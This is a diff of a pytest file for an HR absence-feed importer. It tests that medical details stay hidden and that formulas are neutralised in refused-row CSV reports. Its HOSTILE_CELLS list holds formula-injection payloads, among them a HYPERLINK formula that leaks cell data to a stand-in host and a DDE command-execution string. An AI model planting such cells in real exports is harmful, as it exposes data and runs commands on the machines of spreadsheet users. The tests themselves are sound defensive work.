@@ -1,16 +1,21 @@
 """The absence-system feed: reading cells and rows, and what a batch of rows does against what is stored."""
 from __future__ import annotations
 
+import csv
+import dataclasses
 import datetime as dt
+import io
 import re
 
 import pytest
 
 from casework.absence_feed import (
     COLUMNS,
+    REPORTED_COLUMNS,
     Staff,
     StoredAbsence,
     counts,
+    detail_not_compared,
     missing_columns,
     plan_feed,
     read_row,
@@ -236,7 +241,7 @@ def test_read_csv_numbers_rows_as_in_the_file():
 
 def test_refusal_report_and_lines():
     report = refusal_report(["absence_id", "first_day"], [(3, {"absence_id": "X", "first_day": "soon"},
-                                                          {"first_day": "Not a date.", "row": "Odd."})])
+                                                          {"first_day": "Not a date.", "row": "Odd."})], COLUMNS)
     assert report == "absence_id,first_day,row,errors\r\nX,soon,3,first_day: Not a date.; row: Odd.\r\n"
     assert refusal_lines(3, "X", {"first_day": "Not a date."}) == ["row 3 (absence_id X): first_day: Not a date."]
 
@@ -281,7 +286,51 @@ def test_byte_order_marks_left_in_the_header_are_ignored():
     assert read_header("\ufeff\ufeffabsence_id, First_Day \r\n") == ["absence_id", "first_day"]
 
 
-def test_the_refused_rows_report_carries_no_live_formula():
-    report = refusal_report(["absence_id", "reason_detail"], [(2, {"absence_id": "=cmd|' /C calc'!A0",
-                                                                   "reason_detail": "-2+3"}, {"row": "Odd."})])
-    assert report.splitlines()[1] == "'=cmd|' /C calc'!A0,'-2+3,2,row: Odd."
+# A reader who may not know the employee's medical detail learns nothing about it from the plan.
+
+SECRET = dataclasses.replace(ANNA, detail_known=False)
+
+
+@pytest.mark.parametrize("guess", ["Flu", "Broken leg", "", "flu", "Flu "])
+def test_without_medical_rights_a_guessed_detail_always_reads_unchanged(guess):
+    [outcome] = plan_feed([row(reason_detail=guess)], {"A1": SECRET, "B1": BOSS},
+                          [stored(interview=(D(2026, 3, 5), "Bea Boss"))], TODAY)
+    assert outcome.action == "unchanged" and counts([outcome])["unchanged"] == 1
+    assert outcome.writes == (outcome.changes != {})   # a real change of detail is written all the same
+    assert detail_not_compared([outcome]) == 1
+
+
+def test_with_medical_rights_a_changed_detail_is_an_update():
+    [outcome] = plan([row(reason_detail="Broken leg")], [stored(interview=(D(2026, 3, 5), "Bea Boss"))])
+    assert outcome.action == "updated" and outcome.changes == {"reason_detail": "Broken leg"}
+    assert detail_not_compared([outcome]) == 0
+
+
+def test_without_medical_rights_other_changes_are_still_reported_alike_whatever_the_detail():
+    for guess in ("Flu", "Broken leg"):
+        [outcome] = plan_feed([row(reason_detail=guess, last_day="2026-03-06", rtw_date="2026-03-09")],
+                              {"A1": SECRET, "B1": BOSS}, [stored(interview=(D(2026, 3, 5), "Bea Boss"))], TODAY)
+        assert outcome.action == "updated"
+
+
+HOSTILE_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1",
+                 "＝1+1", "＋1", "－1", "＠SUM(1)", "  =1+1", "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("cell", HOSTILE_CELLS)
+def test_the_refusal_report_neutralises_formulas_in_every_cell(cell):
+    raw = {**GOOD, "absence_id": cell, "first_day": cell, "work_related": cell, "reason_category": cell}
+    report = refusal_report(list(GOOD), [(2, raw, {"first_day": cell})], REPORTED_COLUMNS)
+    [written] = list(csv.reader(io.StringIO(report)))[1:]
+    for value in written:
+        assert not value.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), value
+        assert not value.startswith(("\t", "\r")), value
+
+
+def test_the_refusal_report_drops_the_detail_and_columns_it_does_not_know():
+    header = [*GOOD, "diagnosis", "notes"]
+    raw = {**GOOD, "reason_detail": "Chemotherapy", "diagnosis": "Cancer", "notes": "see GP letter"}
+    report = refusal_report(header, [(2, raw, {"first_day": "Odd."})], REPORTED_COLUMNS)
+    columns = next(csv.reader(io.StringIO(report)))
+    assert columns == [name for name in COLUMNS if name != "reason_detail"] + ["row", "errors"]
+    assert "Chemotherapy" not in report and "Cancer" not in report and "GP letter" not in report
